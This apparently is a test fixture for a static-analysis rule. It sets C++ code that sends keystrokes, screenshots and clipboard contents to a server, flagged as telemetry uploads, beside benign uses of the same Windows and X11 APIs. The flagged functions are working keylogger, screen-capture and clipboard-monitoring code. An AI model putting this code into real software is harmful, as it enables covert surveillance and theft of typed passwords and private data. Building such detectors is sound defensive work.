// Telemetry samples in C++ (Windows): what a "parental control" or stalkerware module does
// — keystrokes, screenshots and the clipboard sent to a server — next to the harmless uses
// of the same APIs by a UI (caps-lock indicator, screen size, paste button).
#include <windows.h>
#include <winsock2.h>
#include <wininet.h>
#include <X11/Xlib.h>
#include <string>
#include <vector>
#include <mutex>
#include <thread>

static SOCKET g_sock = INVALID_SOCKET;
static std::string g_keys;
static std::mutex g_keysLock;
static HHOOK g_hook;

// ---- keystrokes -------------------------------------------------------------------------

static LRESULT CALLBACK KeyboardProc(int code, WPARAM wParam, LPARAM lParam)
{
    if (code == HC_ACTION && wParam == WM_KEYDOWN) {
        KBDLLHOOKSTRUCT *k = (KBDLLHOOKSTRUCT *)lParam;
        std::lock_guard<std::mutex> lock(g_keysLock);
        g_keys += (char)k->vkCode;
    }
    return CallNextHookEx(g_hook, code, wParam, lParam);
}

static DWORD WINAPI FlushThread(LPVOID)
{
    for (;;) {
        Sleep(30000);
        std::string batch;
        {
            std::lock_guard<std::mutex> lock(g_keysLock);
            batch.swap(g_keys);
        }
        if (!batch.empty())
            send(g_sock, batch.data(), (int)batch.size(), 0); // want "telemetry/keystroke-upload"
    }
}

void InstallHook(HINSTANCE inst)
{
    g_hook = SetWindowsHookExW(WH_KEYBOARD_LL, KeyboardProc, inst, 0);
    CreateThread(NULL, 0, FlushThread, NULL, 0, NULL);
}

// The same hook written with a typedef'd pointer and a plain append.
class KeyLogger {
public:
    static LRESULT CALLBACK Hook(int code, WPARAM w, LPARAM l);
    void Start();
    void Flush(SOCKET s);
private:
    static std::wstring s_buffer;
};

std::wstring KeyLogger::s_buffer;

LRESULT CALLBACK KeyLogger::Hook(int code, WPARAM w, LPARAM l)
{
    PKBDLLHOOKSTRUCT info = (PKBDLLHOOKSTRUCT)l;
    BYTE state[256];
    GetKeyboardState(state);
    WCHAR chars[4] = {0};
    ToUnicode(info->vkCode, info->scanCode, state, chars, 4, 0);
    s_buffer.append(chars);
    return CallNextHookEx(NULL, code, w, l);
}

void KeyLogger::Start()
{
    SetWindowsHookExW(WH_KEYBOARD_LL, &KeyLogger::Hook, GetModuleHandleW(NULL), 0);
}

void KeyLogger::Flush(SOCKET s)
{
    int n = WideCharToMultiByte(CP_UTF8, 0, s_buffer.c_str(), -1, NULL, 0, NULL, NULL);
    std::vector<char> utf8(n);
    WideCharToMultiByte(CP_UTF8, 0, s_buffer.c_str(), -1, &utf8[0], n, NULL, NULL);
    send(s, &utf8[0], n - 1, 0); // want "telemetry/keystroke-upload"
    s_buffer.clear();
}

// Polling keylogger: the key code is chosen by a branch on GetAsyncKeyState.
void PollKeys(SOCKET s)
{
    std::string log;
    for (;;) {
        for (int vk = 8; vk <= 255; ++vk) {
            if (GetAsyncKeyState(vk) & 0x0001)
                log += (char)vk;
        }
        if (log.size() > 64) {
            send(s, log.c_str(), (int)log.size(), 0); // want "telemetry/keystroke-upload"
            log.clear();
        }
        Sleep(10);
    }
}

// Polling keylogger that translates the key: data does flow from the source.
void PollTranslated(SOCKET s)
{
    char line[256];
    int used = 0;
    for (int vk = 0x30; vk <= 0x5A; ++vk) {
        if (GetAsyncKeyState(vk) & 0x8000) {
            UINT ch = MapVirtualKeyA(vk, MAPVK_VK_TO_CHAR);
            line[used++] = (char)ch;
        }
    }
    send(s, line, used, 0); // want "telemetry/keystroke-upload"
}

// Raw input delivered to a hidden window.
LRESULT CALLBACK RawWndProc(HWND hwnd, UINT msg, WPARAM w, LPARAM l)
{
    if (msg == WM_INPUT) {
        RAWINPUT raw;
        UINT size = sizeof raw;
        GetRawInputData((HRAWINPUT)l, RID_INPUT, &raw, &size, sizeof(RAWINPUTHEADER));
        if (raw.header.dwType == RIM_TYPEKEYBOARD) {
            USHORT key = raw.data.keyboard.VKey;
            sendto(g_sock, (const char *)&key, sizeof key, 0, NULL, 0); // want "telemetry/keystroke-upload"
        }
    }
    return DefWindowProcW(hwnd, msg, w, l);
}

// Keystrokes streamed over a WinHTTP WebSocket.
void StreamKeysWebSocket(HINTERNET ws)
{
    BYTE state[256];
    GetKeyboardState(state);
    char pressed[256];
    int n = 0;
    for (int vk = 0; vk < 256; ++vk)
        if (state[vk] & 0x80)
            pressed[n++] = (char)vk;
    WinHttpWebSocketSend(ws, WINHTTP_WEB_SOCKET_BINARY_MESSAGE_BUFFER_TYPE, pressed, (DWORD)n); // want "telemetry/keystroke-upload"
}

// A thread-local WH_KEYBOARD hook: the virtual-key code arrives in wParam.
static std::string g_threadKeys;

static LRESULT CALLBACK ThreadKeyProc(int code, WPARAM vk, LPARAM flags)
{
    if (code == HC_ACTION && !(flags & 0x80000000))
        g_threadKeys += (char)vk;
    return CallNextHookEx(NULL, code, vk, flags);
}

void HookEditorThread(DWORD tid, SOCKET s)
{
    SetWindowsHookExA(WH_KEYBOARD, ThreadKeyProc, NULL, tid);
    send(s, g_threadKeys.data(), (int)g_threadKeys.size(), 0); // want "telemetry/keystroke-upload"
}

// ToAscii on the hook's scan code, typed text posted over HTTP.
static std::string g_typed;

static LRESULT CALLBACK TranslateProc(int code, WPARAM w, LPARAM l)
{
    KBDLLHOOKSTRUCT *k = (KBDLLHOOKSTRUCT *)l;
    BYTE state[256] = {0};
    WORD ch = 0;
    if (ToAscii(k->vkCode, k->scanCode, state, &ch, 0) == 1)
        g_typed.push_back((char)ch);
    return CallNextHookEx(NULL, code, w, l);
}

void UploadTyped(HINTERNET req)
{
    SetWindowsHookExA(WH_KEYBOARD_LL, TranslateProc, GetModuleHandleA(NULL), 0);
    HttpSendRequestA(req, NULL, 0, (LPVOID)g_typed.data(), (DWORD)g_typed.size()); // want "telemetry/keystroke-upload"
}

// A panic hotkey: the key state only decides whether a constant is sent.
void WatchPanicKey(SOCKET s)
{
    for (;;) {
        if ((GetAsyncKeyState(VK_CONTROL) & 0x8000) && (GetAsyncKeyState(VK_F12) & 0x8000))
            send(s, "PANIC", 5, 0); // ok: a constant sent when a hotkey is held
        Sleep(50);
    }
}

void SendInputIdleTime(SOCKET s)
{
    LASTINPUTINFO li = { sizeof(li) };
    GetLastInputInfo(&li);
    DWORD idle = GetTickCount() - li.dwTime;
    send(s, (const char *)&idle, sizeof idle, 0); // ok: idle time, not what was typed
}

void CapsIndicator(SOCKET s)
{
    bool caps = (GetKeyState(VK_CAPITAL) & 1) != 0;
    send(s, caps ? "CAPS:1" : "CAPS:0", 6, 0); // ok: a constant chosen by a branch; nothing typed is sent
}

// ---- screen -----------------------------------------------------------------------------

struct Frame {
    int width, height;
    std::vector<BYTE> pixels;
};

static bool CaptureScreen(Frame &f)
{
    HDC screen = GetDC(NULL);
    HDC mem = CreateCompatibleDC(screen);
    f.width = GetSystemMetrics(SM_CXSCREEN);
    f.height = GetSystemMetrics(SM_CYSCREEN);
    HBITMAP bmp = CreateCompatibleBitmap(screen, f.width, f.height);
    SelectObject(mem, bmp);
    BitBlt(mem, 0, 0, f.width, f.height, screen, 0, 0, SRCCOPY);
    BITMAPINFO bi = {};
    bi.bmiHeader.biSize = sizeof(BITMAPINFOHEADER);
    bi.bmiHeader.biWidth = f.width;
    bi.bmiHeader.biHeight = -f.height;
    bi.bmiHeader.biPlanes = 1;
    bi.bmiHeader.biBitCount = 32;
    f.pixels.resize((size_t)f.width * f.height * 4);
    GetDIBits(mem, bmp, 0, f.height, &f.pixels[0], &bi, DIB_RGB_COLORS);
    DeleteObject(bmp);
    DeleteDC(mem);
    ReleaseDC(NULL, screen);
    return true;
}

void UploadScreenshot(HINTERNET req)
{
    Frame f;
    if (!CaptureScreen(f))
        return;
    HttpSendRequestA(req, "Content-Type: image/x-bgra\r\n", (DWORD)-1, &f.pixels[0], (DWORD)f.pixels.size()); // want "telemetry/screen-upload"
}

void StreamScreen(SOCKET s, HDC mem, HBITMAP bmp, int w, int h)
{
    std::vector<BYTE> buf((size_t)w * h * 4);
    GetBitmapBits(bmp, (LONG)buf.size(), buf.data());
    send(s, (const char *)buf.data(), (int)buf.size(), 0); // want "telemetry/screen-upload"
}

void StreamScreenRaw(SOCKET s, HBITMAP bmp, int w, int h)
{
    BYTE *bits = new BYTE[w * h * 4];
    GetBitmapBits(bmp, w * h * 4, bits);
    send(s, (const char *)bits, w * h * 4, 0); // want "telemetry/screen-upload"
    delete[] bits;
}

// A screen recorder class: capture in one method, upload from another.
class ScreenRecorder {
public:
    void Capture();
    void Flush(SOCKET s);
private:
    BITMAPINFO m_bi;
    std::vector<BYTE> m_frame;
    HBITMAP m_bmp;
    HDC m_mem;
    int m_height;
};

void ScreenRecorder::Capture()
{
    m_frame.resize(m_bi.bmiHeader.biSizeImage);
    GetDIBits(m_mem, m_bmp, 0, m_height, &m_frame[0], &m_bi, DIB_RGB_COLORS);
}

void ScreenRecorder::Flush(SOCKET s)
{
    send(s, (const char *)&m_frame[0], (int)m_frame.size(), 0); // want "telemetry/screen-upload"
}

// X11: the root window grabbed with XGetImage.
void SendX11Screen(Display *dpy, int sock)
{
    Window root = DefaultRootWindow(dpy);
    XWindowAttributes wa;
    XGetWindowAttributes(dpy, root, &wa);
    XImage *img = XGetImage(dpy, root, 0, 0, wa.width, wa.height, AllPlanes, ZPixmap);
    send(sock, img->data, img->bytes_per_line * img->height, 0); // want "telemetry/screen-upload"
    XDestroyImage(img);
}

// Idle detection: two frames compared locally, only a constant leaves.
void ReportActivity(SOCKET s, HDC mem, HBITMAP bmp, BITMAPINFO *bi)
{
    static BYTE prev[64 * 64 * 4], cur[64 * 64 * 4];
    GetDIBits(mem, bmp, 0, 64, cur, bi, DIB_RGB_COLORS);
    bool changed = memcmp(prev, cur, sizeof cur) != 0;
    memcpy(prev, cur, sizeof cur);
    send(s, changed ? "ACTIVE" : "IDLE__", 6, 0); // ok: one bit from a comparison, sent as a constant
}

void SendResolution(SOCKET s)
{
    int dims[2] = { GetSystemMetrics(SM_CXSCREEN), GetSystemMetrics(SM_CYSCREEN) };
    send(s, (const char *)dims, sizeof dims, 0); // ok: screen size is not screen contents
}

void SaveThumbnail(HDC mem, HBITMAP bmp, BITMAPINFO *bi)
{
    static BYTE thumb[160 * 120 * 4];
    GetDIBits(mem, bmp, 0, 120, thumb, bi, DIB_RGB_COLORS);
    HANDLE f = CreateFileW(L"C:\\ProgramData\\AvCorp\\thumb.bmp", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    DWORD w;
    WriteFile(f, thumb, sizeof thumb, &w, NULL); // ok: saved locally, never sent
    CloseHandle(f);
}

// ---- clipboard --------------------------------------------------------------------------

static std::string ReadClipboardText()
{
    std::string out;
    if (!OpenClipboard(NULL))
        return out;
    HANDLE h = GetClipboardData(CF_TEXT);
    if (h) {
        const char *text = (const char *)GlobalLock(h);
        out = text ? text : "";
        GlobalUnlock(h);
    }
    CloseClipboard();
    return out;
}

void ClipboardMonitor(SOCKET s)
{
    std::string last;
    for (;;) {
        std::string now = ReadClipboardText();
        if (now != last) {
            send(s, now.c_str(), (int)now.size(), 0); // want "telemetry/clipboard-upload"
            last = now;
        }
        Sleep(1000);
    }
}

void SendClipboardUnicode(HINTERNET req)
{
    OpenClipboard(NULL);
    HGLOBAL h = GetClipboardData(CF_UNICODETEXT);
    LPCWSTR w = (LPCWSTR)GlobalLock(h);
    char utf8[4096];
    WideCharToMultiByte(CP_UTF8, 0, w, -1, utf8, sizeof utf8, NULL, NULL);
    GlobalUnlock(h);
    CloseClipboard();
    DWORD n = 0;
    InternetWriteFile(req, utf8, (DWORD)strlen(utf8), &n); // want "telemetry/clipboard-upload"
}

// Clipboard text captured on a worker thread started with a lambda.
void ClipboardAsync(SOCKET s)
{
    std::thread([s]() {
        OpenClipboard(NULL);
        HANDLE h = GetClipboardData(CF_TEXT);
        std::string text((const char *)GlobalLock(h));
        GlobalUnlock(h);
        CloseClipboard();
        send(s, text.data(), (int)text.size(), 0); // want "telemetry/clipboard-upload"
    }).detach();
}

void PasteButtonState(SOCKET s)
{
    BOOL has = IsClipboardFormatAvailable(CF_TEXT);
    send(s, has ? "PASTE:1" : "PASTE:0", 7, 0); // ok: whether text is available, not the text
}

void SendClipboardLength(SOCKET s)
{
    OpenClipboard(NULL);
    HANDLE h = GetClipboardData(CF_TEXT);
    const char *text = (const char *)GlobalLock(h);
    int len = text ? (int)strlen(text) : 0;
    GlobalUnlock(h);
    CloseClipboard();
    send(s, (const char *)&len, sizeof len, 0); // ok: only the length of the text
}

void PasteIntoEditor(HWND edit)
{
    OpenClipboard(edit);
    HANDLE h = GetClipboardData(CF_UNICODETEXT);
    SetWindowTextW(edit, (LPCWSTR)GlobalLock(h));
    GlobalUnlock(h);
    CloseClipboard();
    send(g_sock, "PASTED", 6, 0); // ok: the text went into a local window
}
